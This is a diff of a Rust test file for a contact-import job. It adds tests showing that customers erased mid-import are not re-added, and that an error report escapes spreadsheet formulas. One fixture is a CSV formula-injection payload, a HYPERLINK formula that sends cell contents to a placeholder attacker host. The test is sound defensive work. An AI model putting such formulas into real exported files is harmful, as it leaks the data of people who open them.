@@ -21,6 +21,10 @@ struct World {
     /// The write that fails although it was carried out, counted from 1; 0: none.
     lost: AtomicUsize,
     writes: AtomicUsize,
+    /// The addresses of erased customers.
+    erased: Mutex<BTreeSet<String>>,
+    /// The write before which an owner erases the customer with this number.
+    erases: Mutex<Option<(usize, &'static str)>>,
 }
 
 impl World {
@@ -30,6 +34,16 @@ impl World {
             return Err(PortError { operation: "write", reason: "the answer is lost".to_owned() });
         }
         Ok(Committed::Done)
+    }
+
+    /// Erases a customer if the time has come.
+    fn is_erased_now(&self) {
+        let due = *self.erases.lock().unwrap();
+        if let Some((_, number)) = due.filter(|(write, _)| *write == self.writes.load(Ordering::Relaxed) + 1) {
+            let place = Place::before(&Address::Phone(E164::parse(number).unwrap()));
+            self.contacts.lock().unwrap().retain(|_, contact| contact.places().all(|own| own != place));
+            self.erased.lock().unwrap().insert(place.key());
+        }
     }
 
     fn all(&self) -> Vec<Contact> {
@@ -47,14 +61,17 @@ impl Registry for &World {
         Ok(self.contacts.lock().unwrap().get(id).cloned())
     }
 
-    async fn add(&self, contact: &Contact) -> Result<Committed, PortError> {
+    async fn write(&self, contact: &Contact, _: bool, places: &[Place], since: Timestamp) -> Result<Committed, PortError> {
+        self.is_erased_now();
+        if Registry::was_erased(self, places, since).await? {
+            return Ok(Committed::Conflict);
+        }
         self.contacts.lock().unwrap().insert(contact.id.clone(), contact.clone());
         self.wrote()
     }
 
-    async fn replace(&self, contact: &Contact) -> Result<Committed, PortError> {
-        self.contacts.lock().unwrap().insert(contact.id.clone(), contact.clone());
-        self.wrote()
+    async fn was_erased(&self, places: &[Place], _: Timestamp) -> Result<bool, PortError> {
+        Ok(places.iter().any(|place| self.erased.lock().unwrap().contains(&place.key())))
     }
 
     async fn lists(&self) -> Result<Vec<List>, PortError> {
@@ -236,6 +253,41 @@ async fn an_import_that_dies_at_any_write_ends_the_same() {
         assert_eq!((job.counts, told(&world, &job)), (done.counts, told(&whole, &done)), "{lost}");
         assert_eq!(world.all(), whole.all(), "{lost}");
     }
+}
+
+/// Row 20 is a new customer, row 4 a known one. Whichever write of the import comes first after the erasure, neither
+/// is there at the end, and the others are.
+#[tokio::test]
+async fn an_import_under_way_does_not_add_a_customer_who_is_erased_at_any_point_of_it() {
+    for known in [Known::Skip, Known::Update] {
+        for number in ["+393330000020", "+393330000004"] {
+            for (write, lost) in (1..=38).flat_map(|write| [(write, 0), (write, write)]) {
+                let world = world(40);
+                *world.erases.lock().unwrap() = Some((write, number));
+                world.lost.store(lost, Ordering::Relaxed);
+                let job = play(&world, Import { known, ..import() }).await;
+                let place = Place::before(&Address::Phone(E164::parse(number).unwrap()));
+                let there = world.all().iter().any(|contact| contact.places().any(|own| own == place));
+                assert!(!there, "{known:?} {number} {write}: {}", told(&world, &job));
+                assert!(world.all().len() >= 36, "{known:?} {number} {write}: {}", world.all().len());
+            }
+        }
+    }
+}
+
+/// A spreadsheet that opens the file of errors must carry out nothing, and no error repeats a cell.
+#[tokio::test]
+async fn a_file_of_formulas_imports_nothing_and_its_errors_have_none() {
+    let world = World::default();
+    let formula = "=HYPERLINK(\"http://evil.example/\"&A1)";
+    let row = vec![format!("\"{}\"", formula.replace('"', "\"\"")); 4].join(";");
+    let file = format!("Phone;First;Company;Lists\r\n{}", format!("{row}\r\n").repeat(50));
+    world.files.lock().unwrap().insert(import().key, file.into_bytes());
+    let job = play(&world, import()).await;
+    assert_eq!((job.counts, world.all().len()), (Counts { done: 0, skipped: 50, total: 50, ..Counts::default() }, 0));
+    let told = told(&world, &job);
+    assert!(told.lines().count() > 50 && !told.contains("evil"), "{told}");
+    assert!(told.lines().flat_map(|line| line.split(',')).all(|cell| !cell.trim_matches('"').starts_with(['=', '+', '-', '@'])), "{told}");
 }
 
 #[tokio::test]
